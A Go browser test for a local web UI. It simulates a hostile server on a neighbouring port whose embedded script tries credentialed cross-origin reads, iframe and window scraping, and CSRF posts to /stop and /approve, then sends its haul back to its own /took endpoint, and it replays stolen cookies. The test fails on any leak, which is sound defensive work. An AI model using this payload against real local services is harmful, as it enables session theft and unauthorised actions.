package ui

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// loot has the browser that shows a neighbour's page try to read pages of the owner's session
// and to send its forms, with all that the browser itself adds.
const loot = `<!doctype html><iframe name="frame"></iframe><script>(async () => {
	const target = %q, took = [], take = (how, what) => { if (what) took.push(how + " " + what); };
	const loaded = (frame) => new Promise(done => { frame.onload = done; setTimeout(done, 2000); });
	const frame = document.querySelector("iframe");
	take("referrer", document.referrer);
	for (const path of ["/", "/search?q=honey", "/nights", "/held"]) {
		for (const mode of ["cors", "no-cors", "same-origin"]) {
			try { take(mode, await (await fetch(target + path, { mode, credentials: "include", headers: { Accept: "text/html" } })).text()); } catch { }
		}
		const done = loaded(frame);
		frame.src = target + path;
		await done;
		try { take("frame", frame.contentDocument.body.innerText); } catch { }
		const opened = open(target + path);
		if (opened) {
			try { take("window", await new Promise(done => { opened.onload = () => done(opened.document.body.innerText); setTimeout(done, 200); })); } catch { }
			opened.close();
		}
	}
	for (const path of ["/stop", "/approve"]) {
		const form = document.createElement("form"), fields = { by: "id", value: "stolen" };
		Object.assign(form, { method: "post", action: target + path, target: "frame" });
		for (const name in fields) form.append(Object.assign(document.createElement("input"), { name, value: fields[name] }));
		document.body.append(form);
		const done = loaded(frame);
		form.submit();
		await done;
		try { await fetch(target + path, { method: "post", mode: "no-cors", credentials: "include", body: new URLSearchParams(fields) }); } catch { }
	}
	await fetch("/took", { method: "post", body: took.join("\n") });
})()</script>`

// neighbour is a server of another user of the machine, at another port of the same address.
// It notes what the browser brings along, and asks the owner's server with that itself.
type neighbour struct {
	target string
	tried  chan bool // receives when a page of it has tried everything
	mu     sync.Mutex
	took   []string // what it should not have
}

func (n *neighbour) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if r.URL.Path == "/took" {
		if took, _ := io.ReadAll(r.Body); len(took) > 0 {
			n.took = append(n.took, "the browser reads "+string(took))
		}
		n.tried <- true
		return
	}
	bases := []string{n.target}
	if from, err := url.Parse(r.Referer()); err == nil && strings.HasPrefix(r.Referer(), n.target) {
		n.took = append(n.took, "a referrer: "+r.Referer())
		folder, _, _ := strings.Cut(strings.TrimPrefix(from.Path, "/"), "/")
		bases = append(bases, n.target+"/"+folder)
	}
	if cookies := r.Header.Get("Cookie"); cookies != "" {
		n.took = append(n.took, "cookies: "+cookies)
	}
	for _, base := range bases {
		n.ask(http.MethodGet, base+"/search?q=honey", r.Header.Get("Cookie"), nil)
		form := url.Values{"by": {"id"}, "value": {"stolen"}}
		for _, path := range []string{"/approve", "/stop"} {
			n.ask(http.MethodPost, base+path, r.Header.Get("Cookie"), form)
		}
	}
	w.Header().Set("Content-Type", "text/html")
	fmt.Fprintf(w, loot, n.target)
}

// ask asks the owner's server, and notes an answer that is more than a refusal.
func (n *neighbour) ask(method, address, cookies string, form url.Values) {
	r, err := http.NewRequest(method, address, strings.NewReader(form.Encode()))
	if err != nil {
		return
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Accept", "text/html")
	r.Header.Set("Cookie", cookies)
	answer, err := http.DefaultTransport.RoundTrip(r)
	if err != nil {
		return
	}
	defer answer.Body.Close()
	if answer.StatusCode < http.StatusBadRequest {
		n.took = append(n.took, fmt.Sprint(method, " ", address, " is answered ", answer.Status))
	}
}

// openPages serves pages that note what is done. link opens a session of the owner.
func openPages(t *testing.T) (address, link string, done func() []string) {
	var mu sync.Mutex
	var all []string
	note := func(what string) { mu.Lock(); all = append(all, what); mu.Unlock() }
	server := httptest.NewUnstartedServer(nil)
	_, port, _ := strings.Cut(server.Listener.Addr().String(), ":")
	pages := New(t.Context(), Options{
		Port: port, Search: finds{}, Stop: func() { note("stop") },
		Ledger: func(_ context.Context, use func(Ledger) error) error { return use(told{}) },
		Run: func(_ context.Context, command string, args ...string) Answer {
			if command == "approve" {
				note(fmt.Sprint(command, args))
			}
			return Answer{Out: "{}"}
		},
	})
	server.Config.Handler = pages
	server.Start()
	t.Cleanup(func() { server.Close(); pages.Wait() })
	return server.URL, server.URL + "/?token=" + pages.Token(), func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(all)
	}
}

// TestNeighbour: who serves another port of the address, and gets the owner's browser to show
// a page of it, by hand or by a link in our pages, is brought nothing with which pages are
// read or forms sent; nor can a script of that page.
func TestNeighbour(t *testing.T) {
	address, link, done := openPages(t)
	n := &neighbour{target: address, tried: make(chan bool, 2)}
	other := httptest.NewServer(n)
	t.Cleanup(other.Close)
	ctx, _ := openBrowser(t, address)
	tried := chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
		select {
		case <-n.tried:
			return nil
		case <-ctx.Done():
			return ctx.Err()
		}
	})
	do(t, ctx, look(""), chromedp.Navigate(link), until("#q"),
		chromedp.SendKeys(chromedp.CSS("#q"), "honey"+kb.Enter), until(".hit"))
	page := value[string](t, ctx, "location.href")
	do(t, ctx, chromedp.Navigate(other.URL), tried, chromedp.Navigate(page), until(".hit a.url"),
		chromedp.Evaluate[chromedp.Void](`{
			const link = document.querySelector(".hit a.url");
			link.removeAttribute("target");
			link.removeAttribute("rel"); // what the page says of referrers must do
			link.href = "`+other.URL+`/linked";
			link.click();
		}`), tried, chromedp.Navigate(page), until(".hit")) // the session goes on
	n.mu.Lock()
	defer n.mu.Unlock()
	if len(n.took) > 0 {
		t.Errorf("the neighbour has:\n%s", strings.Join(n.took, "\n"))
	}
	if all := done(); len(all) > 0 {
		t.Errorf("the neighbour did %q", all)
	}
}
